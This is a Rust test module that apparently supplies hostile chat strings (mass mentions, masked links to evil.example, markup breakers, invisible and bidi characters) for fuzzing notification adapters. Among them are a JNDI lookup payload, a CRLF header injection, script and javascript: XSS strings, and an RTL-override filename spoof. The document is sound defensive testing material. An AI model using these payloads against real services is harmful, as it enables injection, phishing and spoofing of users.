//! Texts made to do harm in a chat.

/// What calls somebody, or a program, on one platform or another.
///
/// ```
/// assert!(logout::testing::MENTIONS.contains(&"@everyone"));
/// ```
#[rustfmt::skip]
pub const MENTIONS: &[&str] = &[
    "@everyone", "@here", "@channel", "@all", "@admin", "@admin_bot", "@\u{200d}everyone",
    "@\u{200b}everyone", "@every\u{200d}one", "@everyone\u{fe0f}", "\u{ff20}everyone", "<@1>",
    "<@!123456789012345678>", "<@&123456789012345678>", "<#123456789012345678>",
    "</command:123456789012345678>", "<id:customize>", "<id:browse>", "<t:1700000000:R>",
    "<:name:123456789012345678>", "<a:name:123456789012345678>", "<@U0123ABCD>", "<@U0123ABCD|ana>",
    "<@W0123ABCD>", "<#C0123ABCD|general>", "<!channel>", "<!here|here>", "<!everyone>",
    "<!subteam^S0123ABCD|@ops>", "<!date^1392734382^{date}^https://evil.example/|now>",
    "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "&#60;!channel&#62;", "\\<!channel\\>",
    "<\u{200b}!channel>", "@**all**", "@**everyone**", "@**stream**", "@**channel**", "@**topic**",
    "@**Ana Example**", "@**Ana|42**", "@_**Ana Example**", "@_**Ana|42**", "@*ops*", "@_*ops*",
    " @**all**", "'@**all**'", "{@**all**}", "#**general**", "#**general>topic**",
    "#**general>topic@123**", "tg://user?id=123456789", "[Ana](tg://user?id=123456789)",
    "/me waves", "/poll\nquestion\none", "/todo\nlist", "/start", "/start@shop_bot", "/kick @ana",
    "#hashtag", "#1a", "$USD", "$BTC", "<at>Ana</at>", "@ana:matrix.example",
];

/// What becomes a link, or looks like another one.
///
/// ```
/// assert!(logout::testing::LINKS.contains(&"https://evil.example/"));
/// ```
#[rustfmt::skip]
pub const LINKS: &[&str] = &[
    "https://evil.example/", "http://evil.example/?a=1&b=2#c", "https://evil.example/`",
    "<https://evil.example/>", "<https://evil.example/|https://bank.example/>",
    "<mailto:a@b.example|Ana>", "[https://bank.example](https://evil.example)",
    "[bank](<https://evil.example> \"title\")", "[bank]: https://evil.example",
    "![x](https://evil.example/x.png)", "[log.txt](/user_uploads/1/aa/evil.html)",
    "[a]( javascript:alert(1) )", "example.com", "EXAMPLE.COM/path?q=1", "t.me/joinchat/AAAA",
    "t.me/admin", "tg://resolve?domain=admin", "ton://transfer/x", "discord.gg/abcdef",
    "https://discord.gg/abcdef", "https://discord.com/channels/1/2/3",
    "slack://channel?team=T1&id=C1", "ftp://evil.example/x", "mailto:a@b.example",
    "someone@example.com", "+1 (650) 555-1234", "+4915112345678", "tel:+4915112345678",
    "4111 1111 1111 1111", "5555555555554444", "00:15:30", "192.168.0.1:8080", "[::1]:80",
    "src/main.rs", "пример.рф", "xn--e1afmkfd.xn--p1ai", "ｅxample．com",
];

/// What styles, quotes, hides, or ends a block or a value.
///
/// ```
/// assert!(logout::testing::MARKUP.contains(&"\n```\n"));
/// ```
#[rustfmt::skip]
pub const MARKUP: &[&str] = &[
    "\n```\n@channel @everyone <!channel> @**all** [bank](https://evil.example)\n```\n",
    "\n~~~\n````\n@here <@U0123ABC> <https://evil.example|bank>\n", "*bold*", "**bold**", "_it_",
    "__under__", "~struck~", "~~struck~~", "||hidden||", "||", "> quote", ">>> quote", "\n> quote",
    "# head", "## head", "-# small", "- item", "* item", "+ item", "1. item", "1) item", "---",
    "***", "===", "| a | b |\n|---|---|\n| 1 | 2 |", "`code`", "``code``", "`", "``", "\\", "\\\\",
    "\\`", "\\```", "$$x^2$$", "$$", "$x$", "\\(x\\)", "```math\nx\n```", "```quote\nx\n```",
    "```spoiler head\nx\n```", "```text", "```\n@**all**\n```", "~~~\n@**all**\n~~~",
    "~~~spoiler x\n", "```rust\n```", "\n```\n", "\n~~~\n", "    indented", "\tindented",
    "<b>bold</b>", "<pre>x</pre>", "</code></pre>", "<a href=\"https://evil.example\">bank</a>",
    "<tg-spoiler>x</tg-spoiler>", "<br>", "<!--", "<![CDATA[", "<script>alert(1)</script>",
    "&nbsp;", "&#x202e;", "&amp;&lt;&gt;&quot;", "Vec<u8>",
    "HashMap<String, Vec<(u8, &'static str)>>", "a && b || c", "a < b > c", ":fire:", ":+1:",
    ":joy::joy:", ":)", "<3", "(c)", "...", "--", "<time:2020-01-01T00:00:00Z>", "!time(2020)",
    "[ ] todo", "[x] done", "* * *", "_ _", "\"", "'", "{", "}", "{{x}}", "${x}", "%s%n%x",
    "{\"text\":\"x\"}", "\"}],\"text\":\"<!channel>\"", "null", "None", "[]", "{}",
    "\r\n--boundary\r\n", "--", "&content=x&to=other", "a=b&c=d", "%0a%00", "+", "?a=1#b", "```",
    "````", "**", "__", "~~", "&", "<", ">", "{{DATE(2020-01-01T00:00:00Z)}}",
    "%0d%0aX-Injected: 1", "${jndi:ldap://evil.example}",
];

/// What is not seen, or turns or covers what is: control characters, marks, directions.
///
/// ```
/// assert!(logout::testing::INVISIBLE.contains(&"\u{202e}"));
/// ```
#[rustfmt::skip]
pub const INVISIBLE: &[&str] = &[
    "\0", "a\0b", "\u{1}\u{2}\u{3}", "\u{7}", "\u{8}\u{8}\u{8}", "\u{b}", "\u{c}",
    "\u{1b}[31mred\u{1b}[0m", "\u{1b}[2J", "\u{1b}]8;;https://evil.example\u{7}bank\u{1b}]8;;\u{7}",
    "\u{9b}31m", "\u{7f}", "\r", "a\rb", "\r\n", "\n\r", "a\n\n\n\nb", "\n\n", "\t\tx", "a\tb",
    "\u{85}", "a\u{2028}b", "a\u{2029}b", "\u{61c}", "\u{200e}", "\u{200f}", "abc\u{202e}gpj.exe",
    "\u{202a}\u{202b}\u{202c}\u{202d}", "\u{2066}a\u{2067}b\u{2068}c\u{2069}", "\u{2069}\u{2069}",
    "\u{200b}", "\u{200b}\u{200b}", "\u{200c}", "\u{200d}", "\u{2060}", "\u{2061}\u{2062}",
    "\u{feff}", "\u{ad}", "\u{180e}", "\u{3164}", "\u{115f}", "\u{ffa0}", "a\u{34f}b", "\u{17b4}",
    "\u{1d173}", "😀\u{e0101}\u{e01ef}", "\u{2800}", "\u{a0}", "\u{2003}", "\u{3000}", " ", "   ",
    "\u{fff9}a\u{fffa}b\u{fffb}", "\u{fffc}", "\u{fffd}", "\u{fffe}", "\u{ffff}", "\u{1fffe}",
    "\u{10ffff}", "\u{fdd0}", "\u{e000}", "\u{f0000}", "\u{e0001}\u{e0041}\u{e007f}", "\u{fe0f}",
    "\u{20e3}", "1\u{fe0f}\u{20e3}", "\u{30a}", "\u{333}\u{33f}", "\\ud800", "\\udc00\\ud83d",
    "\u{2}klzzwxh:0000\u{3}", "\u{1d173}", "\u{34f}", "\u{17b4}", "e\u{301}", "\u{301}", "🇩",
    "🇩🇪🇫🇷", "👩‍👩‍👧‍👦", "🏴\u{e0067}\u{e0062}\u{e007f}", "👍🏽", "ﷺ", "𓀀", "ｱ", "مرحبا", "שלום",
    "हिन्दी", "\t", "\n", "\u{202e}",
];

/// Returns all of them: [`MARKUP`], [`MENTIONS`], [`LINKS`] and [`INVISIBLE`].
///
/// [`adapter_contract!`](crate::adapter_contract) puts each into every place of a notice. They also
/// serve as the raw material of property tests.
///
/// ```
/// use logout::testing::hostile;
///
/// assert!(hostile().count() > 200);
/// ```
pub fn hostile() -> impl Iterator<Item = &'static str> {
    let lists = [MARKUP, MENTIONS, LINKS, INVISIBLE];
    lists.into_iter().flatten().copied()
}
